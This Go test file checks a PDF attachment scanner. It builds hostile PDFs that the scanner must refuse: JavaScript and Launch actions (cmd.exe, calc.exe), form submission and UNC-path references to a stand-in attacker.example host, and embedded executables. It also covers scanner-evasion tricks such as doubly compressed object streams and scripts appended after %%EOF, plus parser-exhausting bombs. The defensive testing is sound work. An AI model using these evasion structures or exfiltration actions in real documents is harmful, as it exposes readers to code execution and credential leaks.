package attachment_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/cxqkit/cxq/voucher/attachment"
	"github.com/stretchr/testify/require"
)

// pdfRawPart, as an object of pdfBuild, is written as it is and takes no number; every
// "N 0 obj" in it, stream data included, is named in the cross-reference table, so that
// readers following the table load it.
const pdfRawPart = "\x00raw:"

var objHeader = regexp.MustCompile(`(\d+) 0 obj`)

// pdfBuild writes objects numbered from 1 (object 1 is the catalog) and a classic
// cross-reference table naming them.
func pdfBuild(objects []string, trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := map[int]int{}
	n := 0
	for _, o := range objects {
		if raw, ok := strings.CutPrefix(o, pdfRawPart); ok {
			for _, m := range objHeader.FindAllStringSubmatchIndex(raw, -1) {
				num, _ := strconv.Atoi(raw[m[2]:m[3]])
				offs[num] = b.Len() + m[0]
			}
			b.WriteString(raw)
			continue
		}
		n++
		offs[n] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n, o)
	}
	size := 0
	for num := range offs {
		size = max(size, num+1)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", size)
	for num := 1; num < size; num++ {
		if o, ok := offs[num]; ok {
			fmt.Fprintf(&b, "%010d 00000 n \n", o)
		} else {
			b.WriteString("0000000000 65535 f \n")
		}
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n", size, trailer, xref)
	return b.Bytes()
}

// pdfUpdate appends an incremental update to doc: objects (numbered from first) and a
// cross-reference section whose trailer points back with /Prev.
func pdfUpdate(doc []byte, first int, objects ...string) []byte {
	b := bytes.NewBuffer(bytes.Clone(doc))
	prev := bytes.LastIndex(doc, []byte("startxref"))
	prevOff, _ := strconv.Atoi(strings.Fields(string(doc[prev+len("startxref"):]))[0])
	var offs []int
	for i, o := range objects {
		offs = append(offs, b.Len())
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", first+i, o)
	}
	xref := b.Len()
	fmt.Fprintf(b, "xref\n%d %d\n", first, len(objects))
	for _, o := range offs {
		fmt.Fprintf(b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(b, "trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", first+len(objects)+20, prevOff, xref)
	return b.Bytes()
}

// pdfObjStm is an object stream holding bodies as objects first, first+1, …; dict is
// the stream dictionary before /Length (it names the filter and says what else it likes).
func pdfObjStm(dict string, first int, bodies []string, encode func([]byte) []byte) string {
	var hdr, body bytes.Buffer
	for i, o := range bodies {
		fmt.Fprintf(&hdr, "%d %d ", first+i, body.Len())
		body.WriteString(o + "\n")
	}
	content := append([]byte(fmt.Sprintf("%-*s", hdr.Len()+1, hdr.String())), body.Bytes()...)
	d := fmt.Sprintf("<< %s /N %d /First %d /Length %%d >>", dict, len(bodies), hdr.Len()+1)
	return stream(d, encode(content))
}

// pdfXrefStreamDoc writes objects 1…n (object 1 the catalog), then an object stream
// holding members as objects n+1…, then a cross-reference stream (PNG-predicted, as
// writers make them) that places the members in the object stream. stmDict is the object
// stream's dictionary before its /N; it need not say /Type /ObjStm.
func pdfXrefStreamDoc(objects []string, stmDict string, members []string) []byte {
	return pdfXrefStreamDocEncoded(objects, stmDict, members, deflate)
}

func pdfXrefStreamDocEncoded(objects []string, stmDict string, members []string, encode func([]byte) []byte) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := []int{0}
	for i, o := range objects {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	stm := len(objects) + 1
	offs = append(offs, b.Len())
	fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", stm, pdfObjStm(stmDict, stm+1, members, encode))
	xrefNum := stm + len(members) + 1
	xrefOff := b.Len()
	var rows []byte
	row := func(typ byte, f2 uint32, f3 uint16) {
		rows = append(rows, 2, typ) // PNG "Up" filter byte, then the row
		rows = binary.BigEndian.AppendUint32(rows, f2)
		rows = binary.BigEndian.AppendUint16(rows, f3)
	}
	row(0, 0, 65535)
	for _, o := range offs[1:] {
		row(1, uint32(o), 0)
	}
	for i := range members {
		row(2, uint32(stm), uint16(i))
	}
	row(1, uint32(xrefOff), 0)
	// The "Up" filter stores differences from the row above.
	const w = 7
	for i := len(rows) - w - 1; i >= 0; i-- {
		if i%(w+1) != 0 {
			rows[i+w+1] -= rows[i]
		}
	}
	dict := fmt.Sprintf("<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Length %%d >>", xrefNum+1)
	fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefNum, stream(dict, deflate(rows)), xrefOff)
	return b.Bytes()
}

func pageObjects(catalogExtra string) []string {
	return []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>",
		stream("<< /Length %d >>", []byte("BT /F1 12 Tf 72 720 Td (Hello) Tj ET")),
	}
}

// linkAnnot is a page's link annotation whose action is action.
func linkAnnot(action string) string {
	return "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + " >>"
}

func asciiHexEncode(b []byte) []byte { return []byte(fmt.Sprintf("%x>", b)) }

// hostilePDFs are the files the token scan let through, each of which qpdf or MuPDF reads
// as carrying a script, a program or an external reference.
func hostilePDFs() map[string][]byte {
	js := "<< /S /JavaScript /JS (app.alert(1)) >>"
	shortJS := "<< /Type /Action /JS (app.alert(1)) >>"
	withAnnot := func(action string) []byte { return pdfBuild(append(pageObjects(""), linkAnnot(action)), "") }
	return map[string][]byte{
		"object stream compressed twice": pdfXrefStreamDocEncoded(pageObjects("/OpenAction 7 0 R"), "/Type /ObjStm /Filter [/FlateDecode /FlateDecode]",
			[]string{js}, func(b []byte) []byte { return deflate(deflate(b)) }),
		"object stream under ASCIIHex and Flate": pdfXrefStreamDocEncoded(pageObjects("/OpenAction 7 0 R"), "/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
			[]string{js}, func(b []byte) []byte { return asciiHexEncode(deflate(b)) }),
		"object stream without /Type": pdfXrefStreamDoc(pageObjects("/OpenAction 7 0 R"), "/Filter /FlateDecode", []string{shortJS}),
		"object stream named only by the xref stream": pdfXrefStreamDoc(append(pageObjects("/OpenAction 7 0 R"), linkAnnot("[3 0 R /Fit]")),
			"/Filter /FlateDecode", []string{"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>"}),
		"bare stream keyword between objects": pdfBuild(append(pageObjects("/OpenAction 6 0 R"), linkAnnot("[3 0 R /Fit]"),
			pdfRawPart+"stream\n", "<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>", shortJS,
			stream("<< /Length %d >>", []byte("x"))), ""),
		"/Length inside a string": pdfBuild(append(pageObjects("/OpenAction 7 0 R"), linkAnnot("[3 0 R /Fit]"),
			pdfRawPart+"6 0 obj\n<< /Length 3 /Title (/Length 1) >>\nstream\nabc\nendstream\nendobj\n7 0 obj\n"+shortJS+"\nendobj\n"), ""),
		"short names in a plain stream": pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]"),
			pdfRawPart+"6 0 obj\n"+stream("<< /Length %d >>", []byte("\n9 0 obj << /AA << /O << /JS (x) >> >> >> endobj\n"))+"\nendobj\n"), ""),
		"/EF in a plain stream": pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]"),
			pdfRawPart+"6 0 obj\n"+stream("<< /Length %d >>", []byte("\n9 0 obj << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> endobj\n"))+"\nendobj\n"), ""),
		"GoToR to a UNC path":        withAnnot(`<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>`),
		"GoToE":                      withAnnot("<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
		"SubmitForm":                 withAnnot("<< /S /SubmitForm /F << /FS /URL /F (http://attacker.example/collect) >> >>"),
		"ImportData":                 withAnnot("<< /S /ImportData /F (data.fdf) >>"),
		"URI":                        withAnnot("<< /S /URI /URI (http://attacker.example/) >>"),
		"Launch":                     withAnnot("<< /S /Launch /Win << /F (cmd.exe) >> >>"),
		"URL file specification":     pdfBuild(append(pageObjects(""), "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] /FS << /FS /URL /F (http://attacker.example/a.pdf) >> >>"), ""),
		"RichMedia annotation":       pdfBuild(append(pageObjects(""), "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"), ""),
		"escaped action name":        withAnnot("<< /S /Go#54oR /F (x.pdf) >>"),
		"action type as a string":    withAnnot("<< /S (Launch) /F (cmd.exe) >>"),
		"URI by reference":           pdfBuild(append(pageObjects(""), "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A 6 0 R >>", "<< /S /URI /URI (http://x) >>"), ""),
		"action to a missing object": pdfBuild(append(pageObjects(""), "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A 9 0 R >>"), ""),
		"OpenAction to a number":     pdfBuild(append(pageObjects("/OpenAction 12"), linkAnnot("[3 0 R /Fit]")), ""),
		"encrypted by xref stream": pdfXrefStreamDoc(append(pageObjects(""), linkAnnot("[3 0 R /Fit]")),
			"/Type /ObjStm /Filter /FlateDecode /Encrypt << /Filter /Standard >>", []string{"<< >>"}),
		"crypt filter": pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]"),
			stream("<< /Filter /Crypt /Length %d >>", []byte("xx"))), ""),
		"JavaScript in a name tree in an incremental update": pdfUpdate(pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]")), ""), 1,
			"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >> >>"),
		"script appended after the last %%EOF": append(pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]")), ""),
			[]byte("7 0 obj << /S /JavaScript /JS (x) >> endobj\n%%EOF\n")...),
		"parse error after the script": pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]"), "<< /JS (x) /Broken <zz"), ""),
	}
}

func TestPDFHostileRefused(t *testing.T) {
	t.Parallel()
	for name, data := range hostilePDFs() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := attachment.Check(slot(t, attachment.SlotContractScan), "a.pdf", bytes.NewReader(data))
			requireCode(t, err, attachment.CodeUnsafe, "")
		})
	}
}

func TestPDFNotAPDF(t *testing.T) {
	t.Parallel()
	for name, data := range map[string][]byte{
		"HTML after a PDF header":  []byte("%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"),
		"trailer without a root":   pdfDoc([]string{"<< /Type /Catalog >>"}, "")[:0],
		"root that is not catalog": bytes.Replace(pdfWith(""), []byte("/Type /Catalog"), []byte("/Type /Catalug"), 1),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if len(data) == 0 {
				data = bytes.Replace(pdfWith(""), []byte("/Root 1 0 R"), []byte("/Rot 1 0 R"), 1)
			}
			_, err := attachment.Check(slot(t, attachment.SlotContractScan), "a.pdf", bytes.NewReader(data))
			requireCode(t, err, attachment.CodeUnreadable, "")
		})
	}
}

// What stays allowed: page destinations, same-document GoTo (also as /OpenAction, also
// inside an object stream found only through a cross-reference stream), standard named
// actions, an empty /EmbeddedFiles tree, and links where the slot allows them.
func TestPDFAllowed(t *testing.T) {
	t.Parallel()
	links := slot(t, attachment.SlotContractScan)
	links.AllowLinks = true
	for _, tc := range []struct {
		name  string
		slot  attachment.Slot
		data  []byte
		flags int
	}{
		{"destination link", links, pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /XYZ 0 800 0]")), ""), 0},
		{"GoTo link", links, pdfBuild(append(pageObjects(""), linkAnnot("<< /S /GoTo /D (chapter1) >>")), ""), 0},
		{"named action", links, pdfBuild(append(pageObjects(""), linkAnnot("<< /S /Named /N /NextPage >>")), ""), 0},
		{"xref stream and object streams", links, pdfXrefStreamDoc(append(pageObjects("/OpenAction 7 0 R /Names << /EmbeddedFiles << /Names [] >> >>"), linkAnnot("[3 0 R /Fit]")),
			"/Type /ObjStm /Filter /FlateDecode", []string{"<< /S /GoTo /D [3 0 R /Fit] >>", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}), 0},
		{"link where links are allowed", links, pdfBuild(append(pageObjects(""), linkAnnot("<< /S /URI /URI (https://kjj.example.gov.cn/) >>")), ""), 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f, err := attachment.Check(tc.slot, "a.pdf", bytes.NewReader(tc.data))
			require.NoError(t, err)
			require.Len(t, f.Flags, tc.flags)
			if tc.flags > 0 {
				require.Equal(t, attachment.FlagLink, f.Flags[0].Code)
				require.Equal(t, "https://kjj.example.gov.cn/", f.Flags[0].Params["target"])
			}
		})
	}
}

// pdfStructureBombs are files built to make a parser slow or large: each must be judged
// within the parse budget (the benchmark times them).
func pdfStructureBombs(n int) map[string][]byte {
	pad := func(body []byte) []byte {
		return pdfBuild(append(pageObjects(""), linkAnnot("[3 0 R /Fit]"), pdfRawPart+string(body)), "")
	}
	return map[string][]byte{
		"unterminated strings":  pad(bytes.Repeat([]byte("9 0 obj ("), n/9)),
		"unterminated dicts":    pad(bytes.Repeat([]byte("9 0 obj <<"), n/10)),
		"deep nesting":          pad(append([]byte("6 0 obj "), bytes.Repeat([]byte("["), n-8)...)),
		"many tiny objects":     pad(bytes.Repeat([]byte("9 0 obj 1 endobj\n"), n/17)),
		"many streams":          pad(bytes.Repeat([]byte("9 0 obj << >> stream\n"), n/21)),
		"unterminated hex":      pad(bytes.Repeat([]byte("9 0 obj <"), n/9)),
		"huge xref count":       append(pdfWith("")[:0:0], []byte("%PDF-1.7\nxref\n0 999999999\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")...),
		"xref loop":             []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R /Prev 33 /XRefStm 33 >>\nstartxref\n33\n%%EOF\n"),
		"object stream headers": pdfXrefStreamDoc(pageObjects(""), "/Type /ObjStm /Filter /FlateDecode", []string{string(bytes.Repeat([]byte("1 0 "), n/4))}),
	}
}

func TestPDFStructureBombs(t *testing.T) {
	t.Parallel()
	s := slot(t, attachment.SlotContractScan)
	want := map[string]string{
		"unterminated strings": attachment.ReasonBudget, "unterminated dicts": attachment.ReasonBudget,
		"unterminated hex": attachment.ReasonBudget, "many tiny objects": attachment.ReasonBudget,
		"many streams": "", "object stream headers": attachment.ReasonBomb,
		"huge xref count": "unreadable", "xref loop": "", "deep nesting": "",
	}
	for name, data := range pdfStructureBombs(int(s.Limit) - 2000) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := attachment.Check(s, "a.pdf", bytes.NewReader(data))
			switch want[name] {
			case "":
				require.NoError(t, err)
			case "unreadable":
				requireCode(t, err, attachment.CodeUnreadable, "")
			default:
				requireCode(t, err, attachment.CodeUnsafe, want[name])
			}
		})
	}
}
